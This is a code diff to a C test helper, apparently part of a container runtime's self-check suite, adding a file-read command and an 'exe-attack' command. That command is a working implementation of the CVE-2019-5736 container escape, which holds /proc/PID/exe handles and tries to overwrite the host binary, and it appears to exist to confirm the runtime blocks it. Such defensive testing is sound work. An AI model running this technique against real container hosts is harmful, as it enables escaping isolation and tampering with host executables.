@@ -7,6 +7,7 @@
  * and never depends on the host's libraries, and it uses no libberth so a bug
  * in the runtime cannot hide a bug in the check. */
 #include <dirent.h>
+#include <stdbool.h>
 #include <errno.h>
 #include <fcntl.h>
 #include <signal.h>
@@ -121,6 +122,17 @@ static int cmd_errno_of(char **argv)
 static int cmd_open_write(char **argv)
 {
     int fd = open(argv[0], O_WRONLY | O_CLOEXEC);
+
+    if (fd >= 0)
+        close(fd);
+    return report(fd);
+}
+
+/* Opens for reading without blocking (a device such as /dev/kmsg would
+ * block a read) and closes again. */
+static int cmd_open_read(char **argv)
+{
+    int fd = open(argv[0], O_RDONLY | O_NONBLOCK | O_CLOEXEC);
 
     if (fd >= 0)
         close(fd);
@@ -351,9 +363,79 @@ static int cmd_exe(char **argv)
     return 0;
 }
 
+/* The CVE-2019-5736 attack from a container sharing a PID namespace with
+ * its victim: for SECONDS, grab /proc/PID/exe (O_PATH) of every other
+ * process that shows up ("grabbed PID LINK"); then, for each one that has
+ * exited (a running binary would only give ETXTBSY), try to open it for
+ * writing through the held fd and append to it ("PID ok" means the binary
+ * was overwritten, else the errno name). Ends with "done". */
+#define MAX_GRAB 256
+
+struct grab {
+    pid_t pid;
+    int fd;
+};
+
+static void grab_new(struct grab *g, int *n)
+{
+    DIR *d = opendir("/proc");
+    char path[64], link[512];
+
+    for (struct dirent *de; d && *n < MAX_GRAB && (de = readdir(d));) {
+        pid_t pid = (pid_t)atoi(de->d_name);
+        bool seen = pid <= 0 || pid == getpid();
+        for (int i = 0; i < *n && !seen; i++)
+            seen = g[i].pid == pid;
+        if (seen)
+            continue;
+        snprintf(path, sizeof(path), "/proc/%d/exe", pid);
+        int fd = open(path, O_PATH | O_CLOEXEC);
+        if (fd < 0)
+            continue;
+        ssize_t l = readlink(path, link, sizeof(link) - 1);
+        link[l < 0 ? 0 : l] = '\0';
+        g[(*n)++] = (struct grab){pid, fd};
+        printf("grabbed %d %s\n", pid, link);
+        fflush(stdout);
+    }
+    if (d)
+        closedir(d);
+}
+
+static int cmd_exe_attack(char **argv)
+{
+    static struct grab g[MAX_GRAB];
+    int n = 0;
+    time_t end = time(NULL) + atoi(argv[0]);
+    char path[64];
+
+    while (time(NULL) < end) {
+        grab_new(g, &n);
+        /* as the namespace's init, reap what the victim's exit left us */
+        while (waitpid(-1, NULL, WNOHANG) > 0)
+            ;
+        usleep(200);
+    }
+    for (int i = 0; i < n; i++) {
+        if (kill(g[i].pid, 0) == 0)
+            continue; /* still running */
+        snprintf(path, sizeof(path), "/proc/self/fd/%d", g[i].fd);
+        int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
+        if (fd >= 0 && write(fd, "pwned\n", 6) == 6)
+            printf("%d ok\n", g[i].pid);
+        else
+            printf("%d %s\n", g[i].pid, errname(errno));
+        if (fd >= 0)
+            close(fd);
+    }
+    printf("done\n");
+    return 0;
+}
+
 static const struct command commands[] = {
     {"errno-of", 2, cmd_errno_of, "mkdir|rmdir|unlink|create|mknod|chdir|stat PATH"},
     {"open-write", 1, cmd_open_write, "PATH"},
+    {"open-read", 1, cmd_open_read, "PATH"},
     {"read", 1, cmd_read, "PATH"},
     {"rawsock", 0, cmd_rawsock, ""},
     {"mount-tmpfs", 1, cmd_mount_tmpfs, "DIR"},
@@ -368,6 +450,7 @@ static const struct command commands[] = {
      "personality N"},
     {"caps", 0, cmd_caps, ""},
     {"exe", 0, cmd_exe, ""},
+    {"exe-attack", 1, cmd_exe_attack, "SECONDS"},
 };
 
 static int usage(void)
